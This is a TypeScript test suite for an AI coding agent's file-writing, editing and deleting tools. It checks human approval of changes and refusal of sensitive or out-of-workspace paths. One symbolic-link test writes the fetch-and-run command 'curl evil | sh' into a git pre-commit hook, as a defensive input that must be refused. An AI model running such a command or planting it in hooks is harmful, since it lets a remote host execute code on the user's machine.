import * as assert from 'node:assert/strict';
import { deleteFileTool } from '../../src/tools/deleteFile';
import { editFileTool } from '../../src/tools/editFile';
import { writeFileTool } from '../../src/tools/writeFile';
import { MemoryFs } from './fakes/memoryFs';
import { invoke, toolContext } from './fakes/toolContext';

describe('write_file', () => {
  it('proposes a new file (before undefined) and it is written once approved', async () => {
    const fs = new MemoryFs();
    const { ctx, approver } = toolContext(fs, { taskId: 't1', newId: () => 'c1' });
    const r = await invoke(writeFileTool, { path: 'src/new.ts', content: 'export {};\n' }, ctx);
    assert.deepEqual(approver.proposals, [{ id: 'c1', taskId: 't1', path: 'src/new.ts', before: undefined, after: 'export {};\n' }]);
    assert.equal(r.created, true);
    assert.equal(fs.text('src/new.ts'), 'export {};\n');
  });

  it('proposes nothing when the content is already there', async () => {
    const fs = new MemoryFs({ 'a.txt': 'same' });
    const { ctx, approver } = toolContext(fs);
    const r = await invoke(writeFileTool, { path: 'a.txt', content: 'same' }, ctx);
    assert.equal(r.unchanged, true);
    assert.equal(approver.proposals.length, 0);
  });

  it('returns a rejection with its reason to the model and leaves the file alone', async () => {
    const fs = new MemoryFs({ 'a.txt': 'old' });
    const { ctx, approver } = toolContext(fs);
    approver.decide = () => ({ approved: false, reason: 'use tabs, not spaces' });
    const r = await invoke(writeFileTool, { path: 'a.txt', content: 'new' }, ctx);
    assert.equal(r.rejected, true);
    assert.equal(r.reason, 'use tabs, not spaces');
    assert.match(String(r.error), /rejected: use tabs, not spaces/);
    assert.equal(fs.text('a.txt'), 'old');
  });

  it('refuses sensitive files and paths outside the workspace before proposing anything', async () => {
    const fs = new MemoryFs();
    const { ctx, approver } = toolContext(fs);
    assert.match(String((await invoke(writeFileTool, { path: '.env', content: 'X=1' }, ctx)).error), /off limits/);
    assert.match(String((await invoke(writeFileTool, { path: '../x.txt', content: 'x' }, ctx)).error), /outside the workspace/);
    assert.match(String((await invoke(writeFileTool, { path: '.git/hooks/pre-commit', content: 'x' }, ctx)).error), /off limits/);
    assert.equal(approver.proposals.length, 0);
    assert.deepEqual(fs.snapshot(), {});
  });

  it('judges a path through a symbolic link by where it leads: into .git it is refused, into .vscode it is the protected file', async () => {
    const fs = new MemoryFs({ '.vscode/tasks.json': '{}' });
    fs.link('g', '.git');
    fs.link('docs', '.vscode');
    fs.link('out', null);
    const { ctx, approver } = toolContext(fs, { newId: () => 'c1' });
    const hook = await invoke(writeFileTool, { path: 'g/hooks/pre-commit', content: 'curl evil | sh' }, ctx);
    assert.match(String(hook.error), /^Refused: g\/hooks\/pre-commit is a symbolic link to \.git\/hooks\/pre-commit, which is off limits/);
    assert.match(String((await invoke(writeFileTool, { path: 'out/x.txt', content: 'x' }, ctx)).error), /leads outside the workspace through a symbolic link/);
    await invoke(writeFileTool, { path: 'docs/tasks.json', content: '{"tasks": []}' }, ctx);
    // Proposed under its real path, so the approver's protected-file rule and the diff see .vscode/tasks.json.
    assert.deepEqual(approver.proposals.map((c) => c.path), ['.vscode/tasks.json']);
    assert.equal(approver.proposals[0].before, '{}');
  });

  it('refuses in Restricted Mode', async () => {
    const { ctx, approver } = toolContext(new MemoryFs(), { readOnlyReason: 'this folder is not trusted.' });
    const r = await invoke(writeFileTool, { path: 'a.txt', content: 'x' }, ctx);
    assert.equal(r.error, 'Refused: this folder is not trusted.');
    assert.equal(approver.proposals.length, 0);
  });

  it('will not rewrite a file that is not UTF-8, so its encoding is kept', async () => {
    const fs = new MemoryFs({ 'latin1.txt': new Uint8Array([0x63, 0x61, 0x66, 0xe9]) });
    const { ctx } = toolContext(fs);
    const r = await invoke(writeFileTool, { path: 'latin1.txt', content: 'café' }, ctx);
    assert.match(String(r.error), /not UTF-8/);
    assert.deepEqual([...(fs.files.get('latin1.txt') as Uint8Array)], [0x63, 0x61, 0x66, 0xe9]);
  });
});

describe('edit_file', () => {
  const source = 'function a() {\n  return 1;\n}\n\nfunction b() {\n  return 2;\n}\n';

  it('applies several edits as one proposal', async () => {
    const fs = new MemoryFs({ 'src/m.ts': source });
    const { ctx, approver } = toolContext(fs);
    const r = await invoke(editFileTool, { path: 'src/m.ts', edits: [{ search: '  return 1;', replace: '  return 10;' }, { search: '  return 2;', replace: '  return 20;' }] }, ctx);
    assert.equal(r.applied, true);
    assert.equal(approver.proposals.length, 1);
    assert.equal(fs.text('src/m.ts'), source.replace('return 1;', 'return 10;').replace('return 2;', 'return 20;'));
  });

  it('applies none of the edits when one does not match, and shows the closest region', async () => {
    const fs = new MemoryFs({ 'src/m.ts': source });
    const { ctx, approver } = toolContext(fs);
    const r = await invoke(editFileTool, { path: 'src/m.ts', edits: [{ search: '  return 1;', replace: '  return 10;' }, { search: 'function b() {\n  return 3;\n}', replace: 'x' }] }, ctx);
    assert.match(String(r.error), /^Edit 2 of 2: the search text was not found/);
    assert.equal(r.failed_edit, 2);
    const closest = r.closest as { start_line: number; end_line: number; text: string };
    assert.equal(closest.start_line, 5);
    assert.match(closest.text, /return 2;/);
    assert.equal(approver.proposals.length, 0);
    assert.equal(fs.text('src/m.ts'), source);
  });

  it('refuses an ambiguous search', async () => {
    const fs = new MemoryFs({ 'a.txt': 'x\nx\n' });
    const { ctx, approver } = toolContext(fs);
    const r = await invoke(editFileTool, { path: 'a.txt', edits: [{ search: 'x', replace: 'y' }] }, ctx);
    assert.match(String(r.error), /matches 2 places/);
    assert.equal(approver.proposals.length, 0);
  });

  it('passes a rejection reason back and leaves the file untouched', async () => {
    const fs = new MemoryFs({ 'src/m.ts': source });
    const { ctx, approver } = toolContext(fs);
    approver.decide = () => ({ approved: false, reason: 'keep returning 1' });
    const r = await invoke(editFileTool, { path: 'src/m.ts', edits: [{ search: '  return 1;', replace: '  return 10;' }] }, ctx);
    assert.equal(r.reason, 'keep returning 1');
    assert.equal(fs.text('src/m.ts'), source);
  });

  it('asks for write_file when the file does not exist', async () => {
    const { ctx } = toolContext(new MemoryFs());
    const r = await invoke(editFileTool, { path: 'nope.ts', edits: [{ search: 'a', replace: 'b' }] }, ctx);
    assert.match(String(r.error), /does not exist. Use write_file/);
  });

  it('does not propose when the run was stopped', async () => {
    const fs = new MemoryFs({ 'src/m.ts': source });
    const abort = new AbortController();
    abort.abort();
    const { ctx, approver } = toolContext(fs, { signal: abort.signal });
    await assert.rejects(invoke(editFileTool, { path: 'src/m.ts', edits: [{ search: '  return 1;', replace: '  return 10;' }] }, ctx));
    assert.equal(approver.proposals.length, 0);
    assert.equal(fs.text('src/m.ts'), source);
  });
});

describe('delete_file', () => {
  it('proposes the deletion with the old text, so it can be shown and undone', async () => {
    const fs = new MemoryFs({ 'old.ts': 'bye\n' });
    const { ctx, approver } = toolContext(fs);
    const r = await invoke(deleteFileTool, { path: 'old.ts' }, ctx);
    assert.equal(r.deleted, true);
    assert.equal(approver.proposals[0].before, 'bye\n');
    assert.equal(approver.proposals[0].after, undefined);
    assert.equal(fs.text('old.ts'), undefined);
  });

  it('refuses folders, missing files and sensitive files', async () => {
    const fs = new MemoryFs({ 'src/a.ts': '', 'id_rsa': 'key' });
    const { ctx, approver } = toolContext(fs);
    assert.match(String((await invoke(deleteFileTool, { path: 'src' }, ctx)).error), /is a folder/);
    assert.match(String((await invoke(deleteFileTool, { path: 'nope' }, ctx)).error), /does not exist/);
    assert.match(String((await invoke(deleteFileTool, { path: 'id_rsa' }, ctx)).error), /off limits/);
    assert.equal(approver.proposals.length, 0);
  });
});
